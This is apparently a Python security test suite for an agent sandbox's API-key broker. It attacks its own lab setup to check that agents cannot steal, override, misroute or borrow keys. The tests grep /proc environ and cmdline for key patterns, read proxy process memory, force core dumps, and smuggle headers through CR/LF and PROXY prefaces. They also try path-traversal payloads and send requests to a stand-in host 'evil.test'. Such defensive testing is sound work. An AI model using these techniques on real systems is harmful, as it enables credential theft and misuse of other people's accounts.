"""Keys: an agent's API key, which it uses without having it. Taken from where it may lie, replaced by another, used for what
it is not for, or by somebody else."""

import contextlib
import glob
import json
import os
import pathlib
import re
import secrets
import shutil
import subprocess
import time

import broker
import lab as labs
from broker import MODEL, MODEL_HOST
from guards import PORT_FILTER, HostGuard, MachineGuard, ProxyRule, instead_of_proxy
from lab import BROKER, CONF, GATEWAY, PROXY_UNIT, TOOLS, WORK, quiet, run, world
from suite import case

KEYS = {name: f"sk-attack-{name}-{secrets.token_hex(16)}" for name in ("agent", "naive", "victim")}
# Finds them without holding one.
PATTERN = "sk-attack-[a-z]+-[0-9a-f]{32}"
HEADERS = {"x-api-key", "authorization", "api-key", "x-goog-api-key"}


def card(owner, **more):
    return {"api_provider": "custom", "model": "m", "api_base_url": f"https://{MODEL_HOST}/v1", "api_key_header": "x-api-key",
            "api_key_file": f"{WORK}/keys/{owner}", **more}


AGENT = card("agent")
# As the earlier sandbox and many others do it: the key is where programs like it best.
NAIVE = card("naive", api_key_delivery="credential", environment={"ANTHROPIC_KEY": KEYS["naive"]},
             command=["sh", "-c", "env; sleep infinity; :", KEYS["naive"]])
NAIVE_UNIT = MachineGuard("no key in the unit", dropin=f"Environment=ANTHROPIC_KEY={KEYS['naive']}\n")


def add_provider(lab):
    """A model provider in the internet, keys, and a proxy that trusts the provider's certificate."""
    (WORK / "keys").mkdir(mode=0o700)
    for owner, key in KEYS.items():
        path = WORK / "keys" / owner
        path.write_text(key + "\n")
        path.chmod(0o400)
    authority = world.Authority(lab.certificates, "model-authority")
    tls = authority.context(MODEL_HOST)
    # Not below /var/tmp: the proxy's unit has one of its own.
    trusted = pathlib.Path("/run/agentmachine-attack.model-authority.pem")
    shutil.copy(authority.path, trusted)
    trusted.chmod(0o644)
    labs.ip(f"address add {MODEL}/32 dev lo\n", "attack-net")
    lab.provider = broker.Provider("attack-net", MODEL, 443, tls, "model")
    lab.resolver.names[MODEL_HOST] = [MODEL]
    lab.since = f"@{int(time.time())}"
    CONF.write_text(re.sub(r"(?m)^proxy_ca_file.*\n", "", CONF.read_text()) + f'proxy_ca_file = "{trusted}"\n')
    run("agentmachine", "hook", "proxy-config")


labs.PARTS.append(add_provider)


# Guards

@contextlib.contextmanager
def naive_machine(lab):
    before, lab.attacker = lab.attacker, lab.machine(NAIVE, (NAIVE_UNIT,))
    try:
        yield
    finally:
        lab.attacker = before


BROKERED = HostGuard("key stays at the broker", naive_machine)


def victim(lab):
    """Another agent, with a key of its own."""
    return lab.machine(card("victim"))


def naive_broker(lab):
    """In place of the broker one as it is often written: see broker.py."""
    owners = {victim(lab).address: "victim"}
    return instead_of_proxy(broker.Broker, lab, lambda address: KEYS[owners.get(address, "agent")])


STRICT_BROKER = HostGuard("strict broker", naive_broker)
STRIPPED = ProxyRule("agent's own key is taken out", ((r"^request_header_access \S+ deny broker_port\n", ""),))
NOT_LOGGED = ProxyRule("no key in the log", ((r"%#note\{reason\}", "%note{api_key}"),))
NO_LOG = ProxyRule("no log of squid's own", ((r"^cache_log /dev/null", "cache_log /tmp/attack.log"),))
NO_DEBUGGING = ProxyRule("no debugging", ((r"^debug_options .*", "debug_options ALL,1 84,9 11,2"),))


@contextlib.contextmanager
def dumping(lab):
    dropin = pathlib.Path(f"/run/systemd/system/{PROXY_UNIT}.d/30-attack.conf")
    dropin.write_text("[Service]\nLimitCORE=infinity\n")
    run("systemctl", "daemon-reload")
    run("systemctl", "restart", PROXY_UNIT)
    try:
        yield
    finally:
        dropin.unlink()
        run("systemctl", "daemon-reload")
        run("systemctl", "restart", PROXY_UNIT)


NO_CORE = HostGuard("LimitCORE", dumping)


def opened(path, mode):
    @contextlib.contextmanager
    def away(lab):
        place = path(lab)
        before = place.stat().st_mode & 0o7777
        place.chmod(mode)
        try:
            yield
        finally:
            place.chmod(before)
    return away


KEY_DIRECTORY = pathlib.Path("/run/agentmachine/keys")
DIRECTORY_MODE = HostGuard("mode of the keys' directory", opened(lambda lab: KEY_DIRECTORY, 0o755))
FILE_MODE = HostGuard("mode of the key's file", opened(lambda lab: KEY_DIRECTORY / lab.attacker.address, 0o444))


@contextlib.contextmanager
def as_root(lab):
    lab.user = []
    try:
        yield
    finally:
        lab.user = ORDINARY


# Somebody who has an account on the host, and no more.
ORDINARY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
OTHER_USER = HostGuard("user of its own", as_root)
TAKEN_BACK = MachineGuard("release hook", dropin="ExecStopPost=\n")
SILENT = HostGuard("values are not repeated", lambda lab: contextlib.nullcontext())


# Where the key may lie

def key_of(machine):
    accepted = json.loads(pathlib.Path(f"/var/lib/agentmachine/machines/{machine.id}/card.json").read_text())
    return pathlib.Path(accepted["api_key_file"]).read_text().strip().encode()


def used(lab):
    """After which everything has seen the key that is to see it: the provider was asked."""
    token = lab.token()
    lab.attacker.get(f"/models/{token}", BROKER)
    return lab.provider.saw(token)


def leak(name, place, *guards, **options):
    """`place`, of the lab, gives all that can be read in a place."""
    def attack(lab):
        used(lab)
        return key_of(lab.attacker) in place(lab)
    case(f"leak: {name}", *(guards or (BROKERED,)), card=AGENT, **options)(attack)


def output(*argv):
    return subprocess.run(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout


def contents(*paths):
    """Of regular files, below directories too."""
    def files():
        for path in map(pathlib.Path, paths):
            yield from (path.rglob("*") if path.is_dir() else [path])
    texts = []
    for path in files():
        with contextlib.suppress(OSError):
            if path.is_file() and not path.is_symlink():
                texts.append(path.read_bytes())
    return b"\n".join(texts)


def of_processes(what):
    texts = []
    for path in glob.glob(f"/proc/[0-9]*/{what}"):
        with contextlib.suppress(OSError):
            texts.append(pathlib.Path(path).read_bytes())
    return b"\n".join(texts)


def units(lab):
    machine = lab.attacker
    return [machine.unit, PROXY_UNIT, "agentmachine-network.service", *[f"agentmachine-key@{machine.id}.{kind}" for kind in ("path", "service")],
            f"agentmachine-expire@{machine.id}.timer"]


SEARCH = f"busybox grep -rsaohE '{PATTERN}' "

leak("environment of the host's processes", lambda lab: of_processes("environ"))
leak("arguments of the host's processes", lambda lab: of_processes("cmdline"))
leak("arguments, as an ordinary user of the host sees them", lambda lab: output(*ORDINARY, "sh", "-c", "cat /proc/[0-9]*/cmdline"))
leak("environment of the machine's processes", lambda lab: lab.attacker.sh("cat /proc/[0-9]*/environ /proc/self/environ").out)
leak("arguments of the machine's processes", lambda lab: lab.attacker.sh("cat /proc/[0-9]*/cmdline").out)
leak("environment of a new command", lambda lab: lab.attacker.run("env").out)
leak("files in the machine", lambda lab: lab.attacker.sh(f"{TOOLS}{SEARCH} /etc /home /run /tmp /var /workspace 2>/dev/null").out)
leak("files of opencode's settings", lambda lab: lab.attacker.sh(f"{TOOLS}{SEARCH} /run/agentmachine /etc/opencode \"$HOME\" 2>/dev/null").out)
leak("journal", lambda lab: output("journalctl", "--quiet", "--output=export", f"--since={lab.since}"))
leak("agentmachine logs", lambda lab: output("agentmachine", "logs", lab.attacker.id))
leak("systemctl show", lambda lab: output("systemctl", "show", *units(lab)))
leak("systemctl cat", lambda lab: output("systemctl", "cat", *units(lab)))
leak("unit files and settings of machines", lambda lab: contents(*[f"{top}/systemd/{name}" for top in ("/run", "/etc") for name in ("system", "nspawn", "transient")]))
leak("agentmachine plan", lambda lab: output("agentmachine", "plan", str(WORK / f"{lab.attacker.id}.json")))
leak("agentmachine show", lambda lab: output("agentmachine", "show", "--json", lab.attacker.id))
leak("the card as accepted", lambda lab: contents("/var/lib/agentmachine/machines"))
leak("/run/agentmachine, but for the proxy's own keys",
     lambda lab: contents(*[path for path in glob.glob("/run/agentmachine/*") if path != str(KEY_DIRECTORY)]))
leak("what an ordinary user of the host can read",
     lambda lab: output(*ORDINARY, "grep", "-rsaohE", "--devices=skip", PATTERN, "/run/agentmachine", "/run/systemd/system", "/run/systemd/nspawn",
                        "/etc/systemd", "/var/lib/agentmachine", "/tmp", str(WORK)))
leak("records of the proxy", lambda lab: output("journalctl", "--quiet", "--output=export", f"--since={lab.since}", f"--unit={PROXY_UNIT}"), NOT_LOGGED)
leak("squid's own log", lambda lab: contents(*glob.glob("/tmp/systemd-private-*agentmachine-proxy*/tmp")), NO_LOG, NO_DEBUGGING)
leak("error page when the provider breaks off", lambda lab: lab.attacker.get(f"/broken/{lab.token()}", BROKER), STRICT_BROKER)
leak("TRACE, which the provider echoes", lambda lab: lab.attacker.get(f"/trace/{lab.token()}", BROKER, method="TRACE"), STRICT_BROKER)
leak("the key's file in /run, by an ordinary user of the host",
     lambda lab: output(*ORDINARY, "cat", str(KEY_DIRECTORY / lab.attacker.address)), DIRECTORY_MODE, FILE_MODE)


def proxy_memory(lab):
    """The writable memory of the proxy's processes, as read by lab.user."""
    program = """
import re, sys
for pid in sys.argv[1:]:
    try:
        maps, memory = open(f"/proc/{pid}/maps").read(), open(f"/proc/{pid}/mem", "rb")
        for line in maps.splitlines():
            begin, end, mode = re.match("([0-9a-f]+)-([0-9a-f]+) (....)", line).groups()
            if mode.startswith("rw") and int(end, 16) - int(begin, 16) < 1 << 26:
                memory.seek(int(begin, 16))
                for found in set(re.findall(rb"%s", memory.read(int(end, 16) - int(begin, 16)))):
                    print(found.decode())
    except (OSError, ValueError):
        pass
""" % PATTERN
    pids = pathlib.Path(f"/sys/fs/cgroup/system.slice/{PROXY_UNIT}/cgroup.procs").read_text().split()
    return output(*getattr(lab, "user", ORDINARY), "python3", "-c", program, *pids)


leak("memory of the proxy, by an ordinary user of the host", proxy_memory, OTHER_USER)


def core_files(lab):
    """What the proxy leaves when it crashes."""
    setting = pathlib.Path("/proc/sys/kernel/core_pattern")
    before = setting.read_text()
    pattern = "/tmp/attack-core.%p"
    setting.write_text(pattern)
    try:
        pids = pathlib.Path(f"/sys/fs/cgroup/system.slice/{PROXY_UNIT}/cgroup.procs").read_text().split()
        for pid in pids:
            quiet("kill", "-SEGV", pid)
        found = []
        deadline = time.monotonic() + 20
        # The temporary directory goes with the unit's end, so files are read when they come.
        while any(os.path.exists(f"/proc/{pid}") for pid in pids) and time.monotonic() < deadline:
            with contextlib.suppress(OSError):
                found += [contents(path) for path in glob.glob("/tmp/systemd-private-*agentmachine-proxy*/tmp/attack-core.*")]
            time.sleep(0.05)
        found += [contents(*glob.glob("/tmp/attack-core.*"), *glob.glob("/tmp/systemd-private-*/tmp/attack-core.*"))]
        return b"".join(found)
    finally:
        setting.write_text(before)
        for path in glob.glob("/tmp/attack-core.*"):
            os.unlink(path)
        run("systemctl", "restart", PROXY_UNIT)


leak("core files of the proxy", core_files, NO_CORE, serial=True)


@case("leak: the key after the machine's end", TAKEN_BACK, card=AGENT, serial=True)
def _(lab):
    machine = lab.attacker
    run("agentmachine", "stop", machine.id)
    try:
        return key_of(machine) in contents(KEY_DIRECTORY / machine.address, f"/run/agentmachine/machines/agent-{machine.id}")
    finally:
        quiet("agentmachine", "hook", "release", machine.id)
        run("agentmachine", "start", machine.id)
        machine._describe()


def refused_key(lab, text):
    """What is said of a machine whose key file is bad."""
    name = lab.token().rstrip("x") + "-key"
    place, path = WORK / "keys" / name, WORK / f"{name}.json"
    place.write_text(text)
    path.write_text(json.dumps({"agent_id": f"attack-{name}", "workspace": f"{WORK}/{name}", "command": ["true"]} | card(name)))
    try:
        return output("agentmachine", "create", str(path)) + output("agentmachine", "start", f"attack-{name}") + \
            output("journalctl", "--quiet", "--output=cat", f"--unit=systemd-nspawn@agent-attack-{name}.service")
    finally:
        quiet("agentmachine", "rm", "--workspace", f"attack-{name}")


def repeated(lab, text):
    """What a shell says of a key file that is read as its settings, as many services' are."""
    path = WORK / "keys" / secrets.token_hex(8)
    path.write_text(text)
    return output("sh", "-c", f". {path}")


for what, text, why in (("of two lines", KEYS["victim"] + "\nanother\n", "holds more than one line"),
                        ("with a blank in it", KEYS["victim"] + " and more", "must hold one key"),
                        ("with a control character", KEYS["victim"] + "\x01", "must hold one key"),
                        ("that is too long", KEYS["victim"] * 300, "holds more than|is larger than")):
    def attack(lab, text=text, why=why):
        said = refused_key(lab, text)
        # Refused for another reason, it would show nothing.
        return KEYS["victim"].encode() in said or not re.search(f"api_key_file .*({why})".encode(), said)
    case(f"message: a key file {what}", SILENT, control=lambda lab, text=text: KEYS["victim"].encode() in repeated(lab, text))(attack)


def judged(card):
    """What is said of a card, by our program."""
    return output("agentmachine", "check", str(written(card)))


def quoted(card):
    """The same by a program that shows what it has not understood."""
    return output("jq", '"not valid: \\(.)\\n" | halt_error', str(written(card)))


def written(card):
    path = WORK / "keys" / f"{secrets.token_hex(8)}.json"
    path.write_text(json.dumps({"agent_id": "x", "workspace": "/srv/x"} | card))
    return path


for what, wrong, where in (("in a field that isn't there", {"api_key": KEYS["victim"]}, "/api_key: unknown"),
                           ("where its file should be", {"api_key_file": KEYS["victim"]}, "/api_key_file: "),
                           ("in a variable that is refused", {"environment": {"LD_PRELOAD": KEYS["victim"]}}, "/environment/LD_PRELOAD: "),
                           ("in the address of the provider", {"api_provider": "custom", "model": "m", "api_base_url": f"https://user:{KEYS['victim']}@{MODEL_HOST}/v1"},
                            "/api_base_url: "),
                           ("in the address of the proxy", {"proxy": f"http://user:{KEYS['victim']}@10.0.0.1:3128"}, "/proxy: ")):
    def attack(lab, wrong=wrong, where=where):
        said = judged(wrong)
        return KEYS["victim"].encode() in said or where.encode() not in said
    case(f"message: a card with the key {what}", SILENT, control=lambda lab, wrong=wrong: KEYS["victim"].encode() in quoted(wrong))(attack)


# A key of the agent's own, with which it would bring its work to another account

def overridden(lab, token):
    """Whether the provider saw the agent's word in a place of keys."""
    known = lambda name: name.strip().lower().replace("_", "-") in HEADERS
    return any("mine" in request.start.replace("%6d", "m") or any(known(name) and "mine" in value for name, value in request.headers)
               for request in lab.provider.saw(token))


def own_header(name, guard, *lines):
    def attack(lab):
        token = lab.token()
        request = "\r\n".join([f"GET /models/{token} HTTP/1.1", "Host: broker", *lines, "Connection: close", "", ""])
        lab.attacker.send(request.encode("latin-1"), BROKER)
        return overridden(lab, token)
    case(f"own key: {name}", guard, card=AGENT)(attack)


own_header("the same header", STRIPPED, "x-api-key: mine")
own_header("in upper case", STRIPPED, "X-API-KEY: mine", "X-Api-Key: mine")
own_header("five times", STRIPPED, *["x-api-key: mine"] * 5)
own_header("with underscores", STRIPPED, "x_api_key: mine", "x_api-key: mine", "x-api_key: mine")
own_header("a tab before the value", STRIPPED, "x-api-key:\tmine")
own_header("another provider's header", STRIPPED, "api-key: mine", "x-goog-api-key: mine")
own_header("Authorization", STRIPPED, "Authorization: Bearer mine")
own_header("a blank before the colon", STRICT_BROKER, "x-api-key : mine")
own_header("a line that goes on", STRICT_BROKER, "x-other: a", " x-api-key: mine")
own_header("a bare CR in another header", STRICT_BROKER, "x-other: a\rx-api-key: mine")
own_header("a bare LF in another header", STRIPPED, "x-other: a\nx-api-key: mine")


@case("own key: Connection takes the broker's out", STRICT_BROKER, card=AGENT)
def _(lab):
    token = lab.token()
    lab.attacker.get(f"/models/{token}", BROKER, headers=["Connection: x-api-key, close", "Authorization: Bearer mine"])
    return any(not request.all("x-api-key") for request in lab.provider.saw(token))


for what, query in (("key", "key=mine"), ("api_key", "a=b&api_key=mine"), ("in upper case", "API_KEY=mine"), ("escaped", "a=b&%6bey=mine"),
                    ("access_token", "access_token=mine"), ("twice escaped", "%256bey=mine&%6b%65%79=mine")):
    def attack(lab, query=query):
        token = lab.token()
        lab.attacker.get(f"/models/{token}?{query}", BROKER)
        return overridden(lab, token)
    case(f"own key: in the query, {what}", STRICT_BROKER, card=AGENT)(attack)


# The key used for what it is not for

def astray(lab, token):
    """Whether the key went to another path of the provider's or to another host."""
    elsewhere = [request for server in lab.evil for request in list(server.requests.queue) if token in request.start]
    return any(request.all("x-api-key") for request in elsewhere) or \
        any(request.all("x-api-key") and not request.start.split()[1].startswith("/v1/") for request in lab.provider.saw(token))


def elsewhere(name, target, *headers, host="broker"):
    def attack(lab):
        token = lab.token()
        lines = [f"GET {target.replace('TOKEN', token)} HTTP/1.1", f"Host: {host}", *headers, "Connection: close", "", ""]
        lab.attacker.send("\r\n".join(lines).encode("latin-1"), BROKER)
        return astray(lab, token)
    case(f"astray: {name}", STRICT_BROKER, card=AGENT)(attack)


elsewhere("above the path", "/../admin/TOKEN")
elsewhere("above the path, escaped", "/%2e%2e/admin/TOKEN")
elsewhere("above the path, twice escaped", "/%252e%252e/admin/TOKEN")
elsewhere("above the path, the slash escaped", "/..%2fadmin/TOKEN")
elsewhere("above the path, with a backslash", "/..\\admin/TOKEN")
elsewhere("above the path, from within it", "/models/../../admin/TOKEN")
elsewhere("another host in the target", "http://evil.test/TOKEN")
elsewhere("another host with TLS in the target", "https://evil.test/TOKEN")
elsewhere("another host behind an @", "@evil.test/TOKEN")
elsewhere("another host by a longer name", ".evil.test/TOKEN")
elsewhere("another host in Host", "/TOKEN", host="evil.test")
elsewhere("another host in X-Forwarded-Host", "/TOKEN", "X-Forwarded-Host: evil.test")
elsewhere("a redirection to another host", "/redirect/TOKEN")


@case("astray: a tunnel through the broker", STRICT_BROKER, card=AGENT)
def _(lab):
    return b" 200 " in lab.attacker.send(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n", BROKER).split(b"\r\n")[0]


for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "PROPFIND"):
    def attack(lab, method=method):
        token = lab.token()
        lab.attacker.get(f"/models/{token}", BROKER, method=method)
        return any(request.start.startswith(method) for request in lab.provider.saw(token))
    case(f"astray: the method {method}", STRICT_BROKER, card=AGENT)(attack)


# Used by somebody else

def victims_key_was_used(lab, token):
    return any(KEYS["victim"] in value for request in lab.provider.saw(token) for value in request.all("x-api-key"))


for what, line in (("X-Forwarded-For", "X-Forwarded-For: {}"), ("X-Real-IP", "X-Real-IP: {}"), ("Forwarded", "Forwarded: for={}")):
    def attack(lab, line=line):
        token = lab.token()
        lab.attacker.get(f"/models/{token}", BROKER, headers=[line.format(victim(lab).address)])
        return victims_key_was_used(lab, token)
    case(f"another's key: {what}", STRICT_BROKER, card=AGENT)(attack)


@case("another's key: a PROXY preface", STRICT_BROKER, card=AGENT)
def _(lab):
    token = lab.token()
    lab.attacker.send(f"PROXY TCP4 {victim(lab).address} {GATEWAY} 4000 {BROKER}\r\nGET /models/{token} HTTP/1.1\r\nHost: broker\r\n"
                      "Connection: close\r\n\r\n".encode(), BROKER)
    return victims_key_was_used(lab, token)


@case("another's key: from another's address", PORT_FILTER, card=AGENT, serial=True)
def _(lab):
    # An agent that doesn't run: else it would answer, too. Root of the machine's network may do what nothing in it may.
    address, token = "10.213.9.9", lab.token()
    policy, key = pathlib.Path(f"/run/agentmachine/policy/{address}"), KEY_DIRECTORY / address
    shutil.copy(f"/run/agentmachine/policy/{victim(lab).address}", policy)
    shutil.copy(KEY_DIRECTORY / victim(lab).address, key)
    for path in (policy, key):
        shutil.chown(path, "root", "agentmachine-proxy")
        path.chmod(0o440)
    request = f"GET /models/{token} HTTP/1.1\r\nHost: broker\r\nConnection: close\r\n\r\n".encode()
    program = f"import socket\nwith socket.create_connection(({GATEWAY!r}, {BROKER}), 3, ({address!r}, 0)) as c:\n c.sendall({request!r})\n c.recv(9)\n"
    run(*lab.attacker.network("ip", "address", "add", f"{address}/32", "dev", "host0"))
    try:
        quiet(*lab.attacker.network("python3", "-c", program))
        return victims_key_was_used(lab, token)
    finally:
        run(*lab.attacker.network("ip", "address", "delete", f"{address}/32", "dev", "host0"))
        policy.unlink()
        key.unlink()
